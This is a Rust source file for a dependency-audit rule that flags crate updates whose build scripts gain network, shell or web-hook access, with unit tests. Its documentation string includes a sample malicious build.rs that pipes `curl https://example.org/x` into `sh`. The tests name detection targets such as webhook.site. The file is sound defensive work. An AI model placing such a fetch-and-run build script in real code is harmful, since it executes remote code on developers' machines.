//! `build/new-build-script`: an update brings code that runs while it is built.

use crate::check::gained::{Earlier, Update, reached, updates};
use crate::check::{Facts, Rule};
use crate::finding::{Area, Finding, Severity};
use crate::model::capability::ReachKind;

pub(super) static RULE: Rule = Rule {
    id: "build/new-build-script",
    severity: Severity::Medium,
    area: Area::Capabilities,
    summary: "an update gained a build script, or its build script newly reaches for the network, a shell or a web hook",
    docs: r#"A build script runs on your machine, with your rights, before a line of the crate is used. An update that gains one deserves a look;
one that opens connections, starts a shell or names a web hook deserves it before anything is built.

- medium: the version before had none; low when the update is an incompatible one, which may well be a rewrite
- high: and it reaches for the network, a shell or a web hook
- an update whose script was there before and newly reaches for the network or a web hook: high; for a shell: medium
- a crate that is new here, whose first release is less than 14 days old, with a script that reaches for any of them: high

Never for what the version before could do as well. Known from the sources on this machine (docs/capabilities.md), without running
anything; words in comments and in messages do not count, and what code hides is not found.

**Behind it:** `arrayref` (2026): the patch release brought a new dependency whose build script downloaded and ran a program.
`rustdecimal` (2022) looked for CI machines. Of the 471 build scripts of 3,926 real crates 1 reached for the network, 6 for a shell,
none for a web hook. Of the packages that real updates change 0.64 % gain one in a compatible update, mostly to ask rustc for its version.

```rust
// build.rs, new in 1.4.3
fn main() {
    std::process::Command::new("sh").args(["-c", "curl https://example.org/x | sh"]).status().unwrap();
}
```

What to do: read the script of the new version (it is in the package; nothing has run yet). If it is what you want, accept it with the
baseline, or exempt it with a reason.
"#,
    options: &[],
    run,
};

fn run(facts: &Facts<'_>) -> Vec<Finding> {
    updates(facts).0.iter().filter_map(|update| judge(facts, update)).collect()
}

fn judge(facts: &Facts<'_>, update: &Update<'_>) -> Option<Finding> {
    if !update.now.build_script {
        return None;
    }
    let reaches = reached(&update.now.telling_reaches());
    let mut finding = if matches!(update.earlier, Earlier::Nothing) {
        let days = update.young_for(facts)?;
        let what = format!("is new here and has a build script that reaches for {}", reaches.as_ref()?);
        update.finding(&RULE, Severity::High, &what).because(format!("first released {days} days ago"))
    } else if update.gained(|gains| gains.build_script, |flags| flags.build_script) {
        let (severity, what) = match &reaches {
            Some(reaches) => (Severity::High, format!("gained a build script, which reaches for {reaches}")),
            None if update.is_incompatible() => (Severity::Low, "gained a build script".to_owned()),
            None => (Severity::Medium, "gained a build script".to_owned()),
        };
        update.finding(&RULE, severity, &what)
    } else {
        let gains = update.gains()?;
        let new = reached(&gains.reaches.iter().copied())?;
        let is_shell_only = gains.reaches.iter().all(|reach| reach.kind == ReachKind::Shell);
        let severity = if is_shell_only { Severity::Medium } else { Severity::High };
        update.finding(&RULE, severity, &format!("has a build script that newly reaches for {new}"))
    };
    if reaches.is_some() {
        finding =
            finding.because("of 471 build scripts of real crates 1 reached for the network, 6 for a shell, none for a web hook");
    }
    if let Some(links) = update.now.links.as_ref().filter(|_| update.gains().is_some_and(|gains| gains.links)) {
        finding = finding.because(format!("it links `{}` now", crate::base::text::plain(links)));
    }
    let script = update.now.build_reaches.first().map_or("build.rs", |reach| &reach.path);
    Some(finding.help(format!("{}; accept or exempt it if it is what you want", update.source_page(script))))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::gained::fixture::{case, key, published, reaching, with_script};
    use crate::model::baseline::{Baseline, KnownCrate, KnownFlags};
    use crate::model::capability::Capabilities;

    #[test]
    fn what_is_gained_fires_and_what_was_there_does_not() {
        let none = Capabilities::default;
        let macro_only = || Capabilities { build_script: false, proc_macro: true, ..reaching(ReachKind::Network, "ureq") };
        for (before, version, now, expected) in [
            (none(), "1.0.1", with_script(), Some("medium Cargo.lock:3: lib 1.0.1 gained a build script")),
            (none(), "1.1.0", with_script(), Some("medium Cargo.lock:3: lib 1.1.0 gained a build script")),
            (none(), "2.0.0", with_script(), Some("low Cargo.lock:3: lib 2.0.0 gained a build script")),
            (
                none(),
                "2.0.0",
                reaching(ReachKind::Network, "TcpStream"),
                Some(
                    "high Cargo.lock:3: lib 2.0.0 gained a build script, which reaches for the network (TcpStream in build.rs:3)",
                ),
            ),
            (
                none(),
                "1.0.1",
                reaching(ReachKind::Shell, "sh"),
                Some("high Cargo.lock:3: lib 1.0.1 gained a build script, which reaches for a shell (sh in build.rs:3)"),
            ),
            (none(), "1.0.1", reaching(ReachKind::Process, "cc"), Some("medium Cargo.lock:3: lib 1.0.1 gained a build script")),
            (
                with_script(),
                "1.0.1",
                reaching(ReachKind::Webhook, "webhook.site"),
                Some(
                    "high Cargo.lock:3: lib 1.0.1 has a build script that newly reaches for a web hook (webhook.site in build.rs:3)",
                ),
            ),
            (
                with_script(),
                "1.0.1",
                reaching(ReachKind::Shell, "sh"),
                Some("medium Cargo.lock:3: lib 1.0.1 has a build script that newly reaches for a shell (sh in build.rs:3)"),
            ),
            (reaching(ReachKind::Network, "ureq"), "1.0.1", reaching(ReachKind::Network, "curl"), None),
            (with_script(), "1.0.1", with_script(), None),
            (with_script(), "1.0.1", none(), None),
            (none(), "1.0.1", macro_only(), None),
        ] {
            let found = case(Some(("1.0.0", before)), version, now).run(&RULE);
            assert_eq!(found, expected.map(str::to_owned).into_iter().collect::<Vec<_>>(), "{version}");
        }
    }

    #[test]
    fn a_new_crate_is_judged_by_its_age_and_its_reach() {
        for (now, first, expected) in [
            (reaching(ReachKind::Network, "ureq"), "2026-11-20T00:00:00Z", true),
            (reaching(ReachKind::Network, "ureq"), "2026-10-20T00:00:00Z", false),
            (reaching(ReachKind::Process, "cc"), "2026-11-20T00:00:00Z", false),
            (with_script(), "2026-11-20T00:00:00Z", false),
        ] {
            let case = published(case(None, "1.0.0", now), "1.0.0", first);
            let expected = if expected {
                vec![
                    "high Cargo.lock:3: lib 1.0.0 is new here and has a build script that reaches for the network (ureq in build.rs:3)",
                ]
            } else {
                Vec::new()
            };
            assert_eq!(case.run(&RULE), expected, "{first}");
        }
    }

    #[test]
    fn the_baseline_stands_in_for_a_version_that_is_not_at_hand() {
        for (flag, expected) in [(Some(false), 1), (Some(true), 0), (None, 0)] {
            let mut case = case(Some(("1.0.0", Capabilities::default())), "1.0.1", with_script());
            case.capabilities.insert((key(), "1.0.0".parse().unwrap()), Err("gone".into()));
            let flags = KnownFlags { build_script: flag, proc_macro: Some(false), ..KnownFlags::default() };
            let known = KnownCrate { flags, ..KnownCrate::default() };
            case.baseline = Some(Baseline { crates: [(key(), known)].into() });
            assert_eq!(case.run(&RULE).len(), expected, "{flag:?}");
        }
    }
}
